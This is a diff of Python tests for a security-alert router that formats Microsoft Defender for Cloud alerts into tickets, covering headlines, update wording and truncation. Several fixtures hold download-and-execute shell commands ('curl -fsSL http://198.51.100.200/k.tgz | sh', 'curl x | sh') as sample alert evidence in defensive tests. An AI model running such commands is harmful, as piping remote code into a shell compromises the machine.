@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from dataclasses import fields, replace
 from datetime import timedelta
 from pathlib import Path
@@ -25,7 +26,8 @@ from router.domain.posture import Image, Package, Risk
 from router.domain.rulebook import Lane
 from router.domain.severity import Severity
 from router.domain.signals import Link
-from tests.destinations.builders import NOW, RESOURCE, a_briefing, a_group, a_huge_notice, a_notice
+from router.store.codec import decode, encode
+from tests.destinations.builders import NOW, RESOURCE, a_briefing, a_group, a_huge_notice, a_notice, a_software_update
 from tests.examples import some_of
 
 WORDING = Path(headlines.__file__).parent
@@ -74,12 +76,11 @@ def test_why_you_says_nothing_where_nothing_is_known() -> None:
     assert "WHY YOU\nOwner: payments-platform / Payments\n\n" in text_of(a_briefing(a_notice(routes=())), LIMIT)
 
 
-@pytest.mark.parametrize("title", ["[SAMPLE ALERT] Malware found", "[SAMPLE ALERT]Malware found", "Malware found"])
-def test_a_headline_says_once_that_it_is_about_a_sample(title: str) -> None:
+def test_a_headline_says_once_that_it_is_about_a_sample() -> None:
     """By our mark, whether or not Defender's stands in the title; a title that only looks like a sample's stays whole."""
-    told = headlines.headline(a_notice(title=title, sample=True), 160)
-    assert told == "[Sample] High: Malware found - vm-pay-01"
-    assert headlines.headline(a_notice(title=title), 160) == f"High: {title} - vm-pay-01"
+    for title in ("[SAMPLE ALERT] Malware found", "[SAMPLE ALERT]Malware found", "Malware found"):
+        assert headlines.headline(a_notice(title=title, sample=True), 160) == "[Sample] High: Malware found - vm-pay-01"
+        assert headlines.headline(a_notice(title=title), 160) == f"High: {title} - vm-pay-01"
 
 
 def test_what_the_location_of_a_cluster_says_is_no_evidence_beside_it() -> None:
@@ -98,25 +99,26 @@ def test_what_the_location_of_a_cluster_says_is_no_evidence_beside_it() -> None:
     assert Fact("Namespaces", ("shop",)) in a_briefing(elsewhere).evidence
 
 
-@pytest.mark.parametrize("limit", [130, 160, 255, 1_024])
-def test_the_title_of_a_headline_gives_way(limit: int) -> None:
-    """Severity, location and environment stay whole, whatever the limit of a kind, and the title has all that is left."""
+def test_the_title_of_a_headline_gives_way() -> None:
+    """Severity, location and environment stay whole, whatever the limit of a kind, and the title has all that is left.
+
+    A location has half of a headline at most: a longer one is cut, and the environment behind it is not.
+    """
     notice = a_notice(title="A title of many words. " * 100, environment="production")
-    told = headlines.headline(notice, limit)
-    assert len(told) == limit
-    assert told.startswith("High: A title of many words. ")
-    assert told.endswith(f"{MARK} - vm-pay-01 (production)")
-
-
-def test_a_location_has_half_of_a_headline_at_most() -> None:
-    """A longer one is cut, and the environment behind it is not; the title keeps what it needs."""
+    for limit in (130, 160, 255, 1_024):
+        told = headlines.headline(notice, limit)
+        assert len(told) == limit
+        assert told.startswith("High: A title of many words. ")
+        assert told.endswith(f"{MARK} - vm-pay-01 (production)")
     name = "vm-" + "x" * 200
-    told = headlines.headline(a_notice(resource=RESOURCE.replace("vm-pay-01", name), environment="production"), 160)
-    assert told.startswith("High: Suspicious sign-in to a virtual machine - vm-xxx")
-    assert told.endswith(f"x{MARK} (production)")
-    whole = headlines.headline(
-        a_notice(resource=RESOURCE.replace("vm-pay-01", name[:64]), title="t" * 500, environment="production"), 160
+    long, whole = (
+        headlines.headline(
+            a_notice(resource=RESOURCE.replace("vm-pay-01", name), environment="production", **title), 160
+        )
+        for name, title in ((name, {}), (name[:64], {"title": "t" * 500}))
     )
+    assert long.startswith("High: Suspicious sign-in to a virtual machine - vm-xxx")
+    assert long.endswith(f"x{MARK} (production)")
     assert whole.endswith(f"{MARK} - {name[:64]} (production)")
 
 
@@ -136,13 +138,6 @@ def test_a_headline_keeps_to_its_limit(texts: tuple[str, ...], limit: int, group
     assert len(told) <= max(limit, len(MARK))
     assert "\n" not in told
     assert told.startswith("Unknown") or limit < 100
-
-
-def test_the_resource_is_no_evidence_of_itself() -> None:
-    """It stands under where; another one stands under the evidence."""
-    evidence = Evidence(resources=(RESOURCE.upper(), "/subscriptions/other"))
-    facts = a_briefing(a_notice(evidence=evidence)).evidence
-    assert facts == (Fact("Resources", ("/subscriptions/other",)),)
 
 
 CHANGED: list[tuple[dict[str, Any], str]] = [
@@ -165,16 +160,16 @@ CHANGED: list[tuple[dict[str, Any], str]] = [
 ]
 
 
-@pytest.mark.parametrize(("before", "sentence"), CHANGED, ids=[next(iter(before)) for before, _ in CHANGED])
-def test_an_update_says_what_changed(before: dict[str, Any], sentence: str) -> None:
+def test_an_update_says_what_changed() -> None:
     """Against what the destination was last told, in a sentence of its own; what stayed is not said again."""
     notice = a_notice(unlisted=("attempts",))
-    last = replace(notice, **before)
-    assert sentence in changes_between(last, notice)
     assert changes_between(notice, notice) == ()
-    text = note_of(a_briefing(notice, Change.UPDATED, Background(last=last)), LIMIT)
-    assert f"- {sentence}" in text
-    assert "WHAT TO DO" not in text
+    for before, sentence in CHANGED:
+        last = replace(notice, **before)
+        assert sentence in changes_between(last, notice)
+        text = note_of(a_briefing(notice, Change.UPDATED, Background(last=last)), LIMIT)
+        assert f"- {sentence}" in text
+        assert "WHAT TO DO" not in text
 
 
 @given(
@@ -211,18 +206,48 @@ def test_an_update_of_which_nothing_is_known_says_all() -> None:
     assert "EVIDENCE" in text
 
 
-@pytest.mark.parametrize(
-    ("opened", "words"),
-    [
-        (NOW - timedelta(hours=3, minutes=12, seconds=5), " It stood here for 3 h 12 min, since 2026-11-24 08:48 UTC."),
+def test_another_member_of_a_group_takes_nothing_away_from_the_first() -> None:
+    """A group's update is in the words of its latest member: what only the first one has still stands.
+
+    Two findings in one ticket have two packages and two owners; neither became the other.
+    """
+    first = a_notice(evidence=Evidence(accounts=("alice",), ips=("203.0.113.7",)))
+    evidence = Evidence(accounts=("bob",), ips=("203.0.113.9",))
+    second = a_notice(id="another", evidence=evidence, group=a_group(total=2, standing=2))
+    said = "\n".join(changes_between(first, second))
+    assert "1 more signal: 2 in all." in said
+    assert "No longer in" not in said
+    other: dict[str, Any] = {"id": "another", "package": None, "cves": ("CVE-2026-2",), "owner": Owner(group="b")}
+    said = "\n".join(changes_between(a_software_update(), a_software_update(**other, group=a_group())))
+    assert not [word for word in ("Package", "Owner", "No longer in CVEs") if word in said]
+
+
+def test_what_an_older_program_did_not_know_is_no_change() -> None:
+    """2824f6a kept no list of commands, locations or attackers: of 194 messages of the samples 73 would say `New in ...`."""
+    whole = a_notice(evidence=Evidence(commands=("curl x | sh",), attackers=("203.0.113.7",), ips=("203.0.113.7",)))
+    stored = json.loads(encode(whole))
+    del stored["is_whole"]
+    for name in ("commands", "attackers"):
+        del stored["evidence"][name]
+    last = decode(type(whole), json.dumps(stored).encode())
+    assert changes_between(last, whole) == ()
+
+
+def test_a_resolution_says_who_says_so_and_how_long_it_stood() -> None:
+    """As far as that is known; a clock that was wrong makes no length, which is said in its two largest units."""
+    since = " It stood here for 3 h 12 min, since 2026-11-24 08:48 UTC."
+    for opened, words in (
+        (NOW - timedelta(hours=3, minutes=12, seconds=5), since),
         (NOW + timedelta(minutes=5), ""),
         (None, ""),
-    ],
-)
-def test_a_resolution_says_who_says_so_and_how_long_it_stood(opened: Any, words: str) -> None:
-    """As far as that is known; a clock that was wrong makes no length."""
-    text = note_of(a_briefing(change=Change.RESOLVED, background=Background(opened=opened)), LIMIT)
-    assert text == f"Microsoft Defender for Cloud reports that this is over.{words}"
+    ):
+        text = note_of(a_briefing(change=Change.RESOLVED, background=Background(opened=opened)), LIMIT)
+        assert text == f"Microsoft Defender for Cloud reports that this is over.{words}"
+    lengths = {
+        timedelta(seconds=59): "less than a minute", timedelta(minutes=1): "1 min", timedelta(hours=1, seconds=59): "1 h",
+        timedelta(days=1, minutes=5): "1 day", timedelta(days=2, hours=3, minutes=4): "2 days 3 h",
+    }  # fmt: skip
+    assert {length: length_words(length) for length in lengths} == lengths
 
 
 @pytest.mark.parametrize(
@@ -239,21 +264,6 @@ def test_a_resolution_says_who_says_so_and_how_long_it_stood(opened: Any, words:
 def test_a_release_says_what_had_held_it(release: Release, words: str) -> None:
     """Which, whose, since when, how many messages; what is not known is left out."""
     assert words in a_briefing(a_notice(release=release)).news
-
-
-@pytest.mark.parametrize(
-    ("length", "words"),
-    [
-        (timedelta(seconds=59), "less than a minute"),
-        (timedelta(minutes=1), "1 min"),
-        (timedelta(hours=1, seconds=59), "1 h"),
-        (timedelta(days=1, minutes=5), "1 day"),
-        (timedelta(days=2, hours=3, minutes=4), "2 days 3 h"),
-    ],
-)
-def test_a_length_is_said_in_its_two_largest_units(length: timedelta, words: str) -> None:
-    """Which is as exactly as people ask."""
-    assert length_words(length) == words
 
 
 def test_what_is_no_time_stays_as_it_is() -> None:
@@ -287,26 +297,20 @@ def test_a_text_fits_and_says_where_it_was_cut(
     assert text == whole if len(whole) <= limit else "… [" in text
 
 
-@pytest.mark.parametrize("long", ["description", "remediation", "members"])
-def test_evidence_is_not_starved_by_prose(long: str) -> None:
-    """A ticket of 4,000 characters keeps the command that was run, however long the rest is."""
-    longer: dict[str, dict[str, Any]] = {
-        "description": {"description": "words " * 5_000},
-        "remediation": {"remediation": ("step " * 5_000,)},
-        "members": {"group": a_group(named=tuple(replace(a_group().named[0], title="t" * 300) for _ in range(20)))},
-    }
+def test_evidence_is_not_starved_by_prose() -> None:
+    """A ticket of 4,000 characters keeps the command that was run, however long the rest is, and every heading."""
+    members = a_group(named=tuple(replace(a_group().named[0], title="t" * 300) for _ in range(20)))
+    longer: tuple[dict[str, Any], ...] = (
+        {"description": "words " * 5_000}, {"remediation": ("step " * 5_000,)}, {"group": members},
+    )  # fmt: skip
     command = "curl -fsSL http://198.51.100.200/k.tgz | sh"
-    text = text_of(a_briefing(a_notice(evidence=Evidence(processes=(command,)), **longer[long])), LIMIT)
-    assert command in text
-    assert "LINKS\nOpen in the Azure portal: https://portal.azure.com/#view/alerts/1" in text
-
-
-def test_a_huge_notice_is_cut_in_linear_time_and_keeps_every_section() -> None:
-    """Each heading is there."""
+    for long in longer:
+        text = text_of(a_briefing(a_notice(evidence=Evidence(processes=(command,)), **long)), LIMIT)
+        assert command in text
+        assert "LINKS\nOpen in the Azure portal: https://portal.azure.com/#view/alerts/1" in text
     text = text_of(a_briefing(a_huge_notice()), LIMIT)
     assert len(text) <= LIMIT
-    for heading in ("WHAT", "WHERE", "WHEN", "WHY YOU", "EVIDENCE"):
-        assert f"\n{heading}\n" in text
+    assert all(f"\n{heading}\n" in text for heading in ("WHAT", "WHERE", "WHEN", "WHY YOU", "EVIDENCE"))
 
 
 def test_links_are_whole_or_not_there() -> None:
